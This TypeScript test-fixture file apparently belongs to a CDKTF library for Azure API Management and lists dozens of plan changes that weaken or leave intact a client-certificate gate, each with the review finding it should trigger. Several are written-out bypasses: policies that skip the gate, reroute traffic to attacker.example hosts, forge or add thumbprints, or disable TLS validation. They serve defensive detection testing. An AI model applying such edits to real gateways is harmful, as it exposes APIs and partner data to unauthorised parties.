import { ApiManagementApi } from '@cdktf/provider-azurerm/lib/api-management-api';
import { ApiManagementApiOperation } from '@cdktf/provider-azurerm/lib/api-management-api-operation';
import { ApiManagementApiOperationPolicy } from '@cdktf/provider-azurerm/lib/api-management-api-operation-policy';
import { ApiManagementPolicy } from '@cdktf/provider-azurerm/lib/api-management-policy';
import { ApiManagementPolicyFragment } from '@cdktf/provider-azurerm/lib/api-management-policy-fragment';
import { ApiManagementProductApi } from '@cdktf/provider-azurerm/lib/api-management-product-api';
import { TerraformHclModule, TerraformVariable } from 'cdktf';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ClientCertGatedApi, ClientCertificateTrust } from '../../../src';
import { CatchAllOperation } from '../../../src/apis/catch-all-operation';
import { adversarialPki, ATTACKER, Base, BaseOptions, PARTNER_A, PARTNER_B } from './base-stack';

/** How a change is made: the ways users and attackers change a plan. */
export enum Means {
  CONSTRUCT = 'construct',
  PROVIDER_CLASS = 'provider class',
  ADD_OVERRIDE = 'addOverride',
  HAND_EDIT = 'hand-edited cdk.tf.json',
  SYNTH = 'synth environment',
}

/** The categories of issue 10, plus the harmless changes that must not be flagged. */
export enum Category {
  OTHER_SCOPES = '1 other scopes',
  TERRAFORM = '2 Terraform semantics',
  POSITION = '3 position',
  IDENTITY = '4 identity',
  CERTIFICATES = '5 certificates',
  ROUTING = '6 routing',
  HARMLESS = 'harmless',
}

export interface Head {
  readonly name: string;
  readonly means: Means;
  readonly category: Category;
  readonly options?: BaseOptions;
  /** Synthesize without the PFX password (a CI job without secrets). */
  readonly withoutPassword?: boolean;
  /** Changes to the app after the base is built. */
  readonly change?: (base: Base) => void;
  /** Changes to the synthesized `cdk.tf.json` (and the stack directory). */
  readonly edit?: (json: any, stackDir: string) => void;
  readonly weakened: boolean;
  /**
   * A change the review must report, as `<impact> <kind> <detail>` (see `changeLines`); for
   * heads without any change, `none`.
   */
  readonly expect: RegExp | 'none';
}

const policyOf = (operationPolicy = '') =>
  `<policies>\n  <inbound>\n${operationPolicy}  </inbound>\n  <backend>\n    <base />\n  </backend>\n  <outbound>\n    <base />\n  </outbound>\n  <on-error>\n    <base />\n  </on-error>\n</policies>\n`;
const answer200 = '<return-response><set-status code="200" reason="OK" /></return-response>';

/** `xml_content` of a policy resource with `replace` applied, as an override. */
function editPolicy(resource: { addOverride(path: string, value: unknown): void }, xml: string, edit: (xml: string) => string): void {
  resource.addOverride('xml_content', edit(xml));
}

/** The resource block whose construct path ends with `pathEnd`. */
export function resourceAt(json: any, type: string, pathEnd: string): any {
  const found = Object.values<any>(json.resource[type] ?? {}).find((config) => config['//']?.metadata?.path?.endsWith(pathEnd));
  if (!found) throw new Error(`no ${type} at ${pathEnd}`);
  return found;
}

function getAll(api: ClientCertGatedApi): CatchAllOperation {
  return api.operations.find((operation) => operation.methodInput === 'GET')!;
}

export const HEADS: readonly Head[] = [
  // 1. Other scopes: operation, product and service-wide policies.
  {
    name: 'an operation policy without <base /> on GET /* of /orders',
    means: Means.PROVIDER_CLASS,
    category: Category.OTHER_SCOPES,
    change: (b) => {
      new ApiManagementApiOperationPolicy(b.stack, 'Bypass', {
        apiName: b.orders.api.name,
        apiManagementName: b.edge.name,
        resourceGroupName: b.edge.resourceGroupName,
        operationId: getAll(b.orders).operationId,
        xmlContent: '<policies><inbound><set-backend-service backend-id="orders-backend" /></inbound></policies>',
      });
    },
    weakened: true,
    expect: /^weakened verdict unknown rejected→forwarded .*GET \/\*/,
  },
  {
    name: 'the operation policy of GET /orders/{id} keeps <base /> but answers before it',
    means: Means.ADD_OVERRIDE,
    category: Category.OTHER_SCOPES,
    change: (b) => editPolicy(b.orderByIdPolicy, b.orderByIdPolicy.xmlContentInput!, (xml) => xml.replace('<base />', `${answer200}<base />`)),
    weakened: true,
    expect: /^weakened verdict none rejected→answered GET \/orders\/\{id\}/,
  },
  {
    name: 'the operation policy of GET /orders/{id} reroutes after <base />',
    means: Means.ADD_OVERRIDE,
    category: Category.OTHER_SCOPES,
    change: (b) => editPolicy(b.orderByIdPolicy, b.orderByIdPolicy.xmlContentInput!, (xml) => xml.replace('<base />', '<base /><set-backend-service base-url="https://collector.attacker.example" />')),
    weakened: true,
    expect: new RegExp(`^weakened verdict thumbprint:${PARTNER_A} forwarded→forwarded GET /orders/\\{id\\}`),
  },
  {
    name: 'a service-wide policy for contoso-core, keyed by a literal ARM id, answers every request',
    means: Means.PROVIDER_CLASS,
    category: Category.OTHER_SCOPES,
    change: (b) => {
      new ApiManagementPolicy(b.stack, 'CorePolicy', {
        apiManagementId: '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-gateway/providers/Microsoft.ApiManagement/service/contoso-core',
        xmlContent: `<policies><inbound>${answer200}</inbound><backend><forward-request /></backend><outbound /><on-error /></policies>`,
      });
    },
    weakened: true,
    expect: /^weakened verdict unknown rejected→answered .*inventory/,
  },
  {
    name: 'the product policy answers before <base />',
    means: Means.ADD_OVERRIDE,
    category: Category.OTHER_SCOPES,
    change: (b) => editPolicy(b.productPolicy, b.productPolicy.xmlContentInput!, (xml) => xml.replace('<base />', `${answer200}<base />`)),
    weakened: true,
    expect: /^weakened verdict unknown rejected→answered .*product:partners/,
  },
  {
    name: 'the product (with its own gate) also linked to /partners',
    means: Means.PROVIDER_CLASS,
    category: Category.HARMLESS,
    change: (b) => {
      new ApiManagementProductApi(b.stack, 'PartnersProductPartners', {
        productId: b.product.productId,
        apiName: b.partners.api.name,
        apiManagementName: b.edge.name,
        resourceGroupName: b.edge.resourceGroupName,
      });
    },
    weakened: false,
    expect: /^strengthened verdict certificate:.*PartnerKv.* forwarded→rejected .*product:partners/,
  },
  {
    name: 'the product policy drops <base /> (the service-wide policy only sets a header)',
    means: Means.ADD_OVERRIDE,
    category: Category.HARMLESS,
    change: (b) => editPolicy(b.productPolicy, b.productPolicy.xmlContentInput!, (xml) => xml.replace(/<base \/>/g, '')),
    weakened: false,
    expect: 'none',
  },

  // 2. Terraform semantics.
  {
    name: 'count = 0 on the policy of /partners',
    means: Means.ADD_OVERRIDE,
    category: Category.TERRAFORM,
    change: (b) => b.partners.policy.addOverride('count', 0),
    weakened: true,
    expect: /^weakened verdict none rejected→forwarded .*partners/,
  },
  {
    name: 'count from a variable on the policy of /orders',
    means: Means.ADD_OVERRIDE,
    category: Category.TERRAFORM,
    change: (b) => b.orders.policy.addOverride('count', '${var.enable_gate ? 1 : 0}'),
    weakened: true,
    expect: /^weakened verdict unknown rejected→undecided .*orders/,
  },
  {
    name: 'a %{ if } directive around the gate in xml_content',
    means: Means.ADD_OVERRIDE,
    category: Category.TERRAFORM,
    change: (b) => editPolicy(b.orders.policy, b.orders.policyXml, (xml) => xml.replace('<validate-client-certificate', '%{ if var.strict }<validate-client-certificate').replace('</validate-client-certificate>', '</validate-client-certificate>%{ endif }')),
    weakened: true,
    expect: /^weakened verdict unknown rejected→undecided .*orders/,
  },
  {
    name: 'a ${var.x} interpolation in the middle of xml_content',
    means: Means.PROVIDER_CLASS,
    category: Category.TERRAFORM,
    change: (b) => {
      const extra = new TerraformVariable(b.stack, 'extra_statements', { type: 'string', default: '' });
      editPolicy(b.partners.policy, b.partners.policyXml, (xml) => xml.replace('<base />', `<base />${extra.stringValue}`));
    },
    weakened: true,
    expect: /^weakened verdict unknown rejected→undecided .*partners/,
  },
  {
    name: 'xml_link instead of xml_content on /partners',
    means: Means.ADD_OVERRIDE,
    category: Category.TERRAFORM,
    change: (b) => {
      b.partners.policy.addOverride('xml_content', null);
      b.partners.policy.addOverride('xml_link', 'https://policies.contoso.example/partners.xml');
    },
    weakened: true,
    expect: /^weakened verdict unknown rejected→undecided .*partners/,
  },
  {
    name: 'for_each on the product policy',
    means: Means.ADD_OVERRIDE,
    category: Category.TERRAFORM,
    change: (b) => b.productPolicy.addOverride('for_each', '${var.products}'),
    weakened: true,
    expect: /^weakened verdict .* rejected→undecided .*product:partners/,
  },

  // 3. Position: statements before the gate.
  {
    name: 'send-request and return-response before the gate of /orders',
    means: Means.ADD_OVERRIDE,
    category: Category.POSITION,
    change: (b) =>
      editPolicy(b.orders.policy, b.orders.policyXml, (xml) =>
        xml.replace('<base />', '<base /><send-request mode="new" response-variable-name="r"><set-url>https://orders.internal.contoso.example/all</set-url></send-request><return-response response-variable-name="r" />'),
      ),
    weakened: true,
    expect: /^weakened verdict unknown rejected→undecided .*orders/,
  },
  {
    name: 'an include-fragment before the gate of /orders, whose fragment answers',
    means: Means.PROVIDER_CLASS,
    category: Category.POSITION,
    change: (b) => {
      new ApiManagementPolicyFragment(b.stack, 'Shortcut', { apiManagementId: b.edge.resource.id, name: 'shortcut', format: 'rawxml', value: `<fragment>${answer200}</fragment>` });
      editPolicy(b.orders.policy, b.orders.policyXml, (xml) => xml.replace('<base />', '<base /><include-fragment fragment-id="shortcut" />'));
    },
    weakened: true,
    expect: /^weakened verdict unknown rejected→answered .*orders/,
  },
  {
    name: 'a choose before the gate of /partners that answers callers without a certificate',
    means: Means.ADD_OVERRIDE,
    category: Category.POSITION,
    change: (b) =>
      editPolicy(b.partners.policy, b.partners.policyXml, (xml) => xml.replace('<base />', `<base /><choose><when condition='@(context.Request.Certificate == null)'>${answer200}</when></choose>`)),
    weakened: true,
    expect: /^weakened verdict none rejected→answered .*partners/,
  },

  // 4. Identity: APIs are matched by path, not by construct.
  {
    name: 'the /orders construct renamed while a thumbprint is added',
    means: Means.CONSTRUCT,
    category: Category.IDENTITY,
    options: { ordersConstructId: 'OrdersApiV2', ordersThumbprints: [PARTNER_A, PARTNER_B, ATTACKER] },
    weakened: true,
    expect: new RegExp(`^weakened verdict thumbprint:${ATTACKER} rejected→forwarded`),
  },
  {
    name: 'a new API without any policy',
    means: Means.PROVIDER_CLASS,
    category: Category.IDENTITY,
    change: (b) => {
      new ApiManagementApi(b.stack, 'Billing', {
        name: 'billing',
        apiManagementName: b.edge.name,
        resourceGroupName: b.edge.resourceGroupName,
        revision: '1',
        displayName: 'Billing',
        path: 'billing',
        protocols: ['https'],
        serviceUrl: 'https://billing.internal.contoso.example',
      });
    },
    weakened: true,
    expect: /^weakened operation-added .*billing/,
  },
  {
    name: 'a new gated API whose gate has ignore-error="true"',
    means: Means.ADD_OVERRIDE,
    category: Category.IDENTITY,
    change: (b) => {
      const api = new ClientCertGatedApi(b.stack, 'InvoicesApi', {
        apiManagement: b.edge,
        displayName: 'Invoices',
        path: 'invoices',
        serviceUrl: 'https://invoices.internal.contoso.example',
        trust: ClientCertificateTrust.thumbprints([PARTNER_A]),
      });
      editPolicy(api.policy, api.policyXml, (xml) => xml.replace('ignore-error="false"', 'ignore-error="true"'));
    },
    weakened: true,
    expect: /^weakened operation-added .*invoices/,
  },
  {
    name: 'a new API with a proper gate',
    means: Means.CONSTRUCT,
    category: Category.HARMLESS,
    change: (b) => {
      new ClientCertGatedApi(b.stack, 'InvoicesApi', {
        apiManagement: b.edge,
        displayName: 'Invoices',
        path: 'invoices',
        serviceUrl: 'https://invoices.internal.contoso.example',
        trust: ClientCertificateTrust.thumbprints([PARTNER_A]),
      });
    },
    weakened: false,
    expect: /^to-note operation-added .*invoices/,
  },
  {
    name: 'the /orders construct renamed, nothing else',
    means: Means.CONSTRUCT,
    category: Category.HARMLESS,
    options: { ordersConstructId: 'OrdersApiV2' },
    weakened: false,
    expect: 'none',
  },
  {
    name: 'a new operation on /orders whose own policy drops <base />',
    means: Means.PROVIDER_CLASS,
    category: Category.IDENTITY,
    change: (b) => {
      const operation = new ApiManagementApiOperation(b.stack, 'Export', {
        operationId: 'export',
        apiName: b.orders.api.name,
        apiManagementName: b.edge.name,
        resourceGroupName: b.edge.resourceGroupName,
        displayName: 'Export',
        method: 'POST',
        urlTemplate: '/export',
      });
      new ApiManagementApiOperationPolicy(b.stack, 'ExportPolicy', {
        apiName: b.orders.api.name,
        apiManagementName: b.edge.name,
        resourceGroupName: b.edge.resourceGroupName,
        operationId: operation.operationId,
        xmlContent: '<policies><inbound><set-backend-service backend-id="orders-backend" /></inbound></policies>',
      });
    },
    weakened: true,
    expect: /^weakened verdict unknown rejected→forwarded POST \/export/,
  },

  // 5. Certificates: claims are descriptions, sources identify.
  {
    name: "the PFX certificate's claimed thumbprint forged (file unchanged) and that thumbprint pinned",
    means: Means.HAND_EDIT,
    category: Category.CERTIFICATES,
    edit: (json) => {
      const certificate = resourceAt(json, 'azurerm_api_management_certificate', 'InventoryPartner/Certificate');
      const real = certificate['//']['cdktf-apim-mtls'].thumbprint;
      certificate['//']['cdktf-apim-mtls'].thumbprint = ATTACKER;
      const policy = resourceAt(json, 'azurerm_api_management_api_policy', 'InventoryApi/Policy');
      policy.xml_content = policy.xml_content.replace(real, ATTACKER);
    },
    weakened: true,
    expect: /^weakened certificate claims-changed/,
  },
  {
    name: 'every // claim deleted',
    means: Means.HAND_EDIT,
    category: Category.HARMLESS,
    edit: (json) => {
      for (const byName of Object.values<any>(json.resource)) for (const config of Object.values<any>(byName)) delete config['//']?.['cdktf-apim-mtls'];
    },
    weakened: false,
    expect: 'none',
  },
  {
    name: 'a CI synth without the PFX password',
    means: Means.SYNTH,
    category: Category.HARMLESS,
    withoutPassword: true,
    weakened: false,
    expect: 'none',
  },
  {
    name: 'a routine rotation: a renewed PFX with the same subject and issuer',
    means: Means.CONSTRUCT,
    category: Category.HARMLESS,
    options: { inventoryPfx: 'renewed' },
    weakened: false,
    expect: /^to-note certificate rotated/,
  },
  {
    name: 'the PFX replaced by a certificate with another subject',
    means: Means.CONSTRUCT,
    category: Category.CERTIFICATES,
    options: { inventoryPfx: 'stranger' },
    weakened: true,
    expect: /^weakened certificate replaced/,
  },
  {
    name: '/reports narrowed from any uploaded certificate to the partner certificate',
    means: Means.CONSTRUCT,
    category: Category.HARMLESS,
    options: { reportsTrustsPartnerOnly: true },
    weakened: false,
    expect: 'none',
  },
  {
    name: 'a certificate uploaded to contoso-core, where /reports trusts any uploaded certificate',
    means: Means.CONSTRUCT,
    category: Category.CERTIFICATES,
    options: { extraCoreCertificate: true },
    weakened: true,
    expect: /^weakened verdict certificate:.*Contractor.* rejected→forwarded .*reports/,
  },
  {
    name: '/partners switched to any uploaded certificate, which admits the backend client certificate',
    means: Means.CONSTRUCT,
    category: Category.CERTIFICATES,
    options: { partnersTrustUploaded: true },
    weakened: true,
    expect: /^weakened verdict certificate:.*GatewayClient.* rejected→forwarded .*partners/,
  },
  {
    name: 'a thumbprint added to /orders',
    means: Means.CONSTRUCT,
    category: Category.CERTIFICATES,
    options: { ordersThumbprints: [PARTNER_A, PARTNER_B, ATTACKER] },
    weakened: true,
    expect: new RegExp(`^weakened verdict thumbprint:${ATTACKER} rejected→forwarded`),
  },
  {
    name: 'a pinned thumbprint swapped in cdk.tf.json',
    means: Means.HAND_EDIT,
    category: Category.CERTIFICATES,
    edit: (json) => {
      const policy = resourceAt(json, 'azurerm_api_management_api_policy', 'OrdersApi/Policy');
      policy.xml_content = policy.xml_content.replace(PARTNER_B, ATTACKER);
    },
    weakened: true,
    expect: new RegExp(`^weakened verdict thumbprint:${ATTACKER} rejected→forwarded`),
  },
  {
    name: 'validity checks turned off on /orders',
    means: Means.CONSTRUCT,
    category: Category.CERTIFICATES,
    options: { ordersCheckValidity: false },
    weakened: true,
    expect: new RegExp(`^weakened verdict expired:thumbprint:${PARTNER_A} rejected→forwarded`),
  },
  {
    name: 'the chain check of /inventory replaced by a check of the issuer name',
    means: Means.ADD_OVERRIDE,
    category: Category.CERTIFICATES,
    change: (b) =>
      b.inventory.policy.addOverride(
        'xml_content',
        policyOf(
          `    <base />\n    <choose>\n      <when condition='@(context.Request.Certificate == null || context.Request.Certificate.Issuer != "CN=Contoso Partner Root, O=Contoso")'>\n        <return-response><set-status code="401" reason="no" /></return-response>\n      </when>\n    </choose>\n`,
        ),
      ),
    weakened: true,
    expect: /^weakened verdict impostor:certificate:.*InventoryPartner.* rejected→forwarded .*inventory/,
  },

  // 6. Routing.
  {
    name: 'the mutual TLS backend moved to another host',
    means: Means.CONSTRUCT,
    category: Category.ROUTING,
    options: { backendUrl: 'https://orders.attacker.example' },
    weakened: true,
    expect: new RegExp(`^weakened verdict thumbprint:${PARTNER_A} forwarded→forwarded .*orders`),
  },
  {
    name: "/partners's service URL (its set-backend-service base-url) moved to another host",
    means: Means.CONSTRUCT,
    category: Category.ROUTING,
    options: { partnersServiceUrl: 'https://partners.attacker.example' },
    weakened: true,
    expect: /^weakened verdict certificate:.*PartnerKv.* forwarded→forwarded .*partners/,
  },
  {
    name: 'server certificate chain validation turned off on the backend',
    means: Means.CONSTRUCT,
    category: Category.ROUTING,
    options: { backendValidateChain: false },
    weakened: true,
    expect: /^weakened backend-tls chain/,
  },
  {
    name: "the backend's tls block removed",
    means: Means.HAND_EDIT,
    category: Category.ROUTING,
    edit: (json) => {
      delete resourceAt(json, 'azurerm_api_management_backend', 'OrdersBackend/Backend').tls;
    },
    weakened: true,
    expect: /^weakened backend-tls chain/,
  },

  // Other weakenings.
  {
    name: 'subscription key no longer required on /orders',
    means: Means.ADD_OVERRIDE,
    category: Category.OTHER_SCOPES,
    change: (b) => b.orders.api.addOverride('subscription_required', false),
    weakened: true,
    expect: /^weakened subscription/,
  },
  {
    name: 'plain http accepted by /partners',
    means: Means.ADD_OVERRIDE,
    category: Category.IDENTITY,
    change: (b) => b.partners.api.addOverride('protocols', ['http', 'https']),
    weakened: true,
    expect: /^weakened finding plain-http-accepted/,
  },
  {
    name: 'a module added to the stack',
    means: Means.PROVIDER_CLASS,
    category: Category.TERRAFORM,
    change: (b) => {
      new TerraformHclModule(b.stack, 'MoreApis', { source: 'contoso/apim-apis/azurerm', version: '1.0.0' });
    },
    weakened: true,
    expect: /^weakened finding unreadable-configuration/,
  },
  {
    name: 'an extra .tf file dropped next to cdk.tf.json',
    means: Means.HAND_EDIT,
    category: Category.TERRAFORM,
    edit: (_, stackDir) => writeFileSync(join(stackDir, 'zz_override.tf'), 'resource "azurerm_api_management_api_policy" "x" {}\n'),
    weakened: true,
    expect: /^weakened finding unreadable-configuration/,
  },
  {
    name: 'contoso-edge stops asking for client certificates',
    means: Means.ADD_OVERRIDE,
    category: Category.HARMLESS,
    change: (b) => b.edge.resource.addOverride('client_certificate_enabled', false),
    weakened: false,
    expect: /^to-note service asks-no-longer/,
  },
  {
    name: 'the pinned thumbprints of /orders reordered',
    means: Means.CONSTRUCT,
    category: Category.HARMLESS,
    options: { ordersThumbprints: [PARTNER_B, PARTNER_A] },
    weakened: false,
    expect: 'none',
  },
  {
    name: 'a stricter rule: partner B no longer pinned on /orders',
    means: Means.CONSTRUCT,
    category: Category.HARMLESS,
    options: { ordersThumbprints: [PARTNER_A] },
    weakened: false,
    expect: new RegExp(`^strengthened verdict thumbprint:${PARTNER_B} forwarded→rejected`),
  },
];

/** The PFX files the options name. */
export function pfxFor(name: string | undefined): string | undefined {
  if (name === undefined) return undefined;
  const p = adversarialPki();
  return name === 'renewed' ? p.renewedPfx : name === 'stranger' ? p.strangerPfx : name;
}
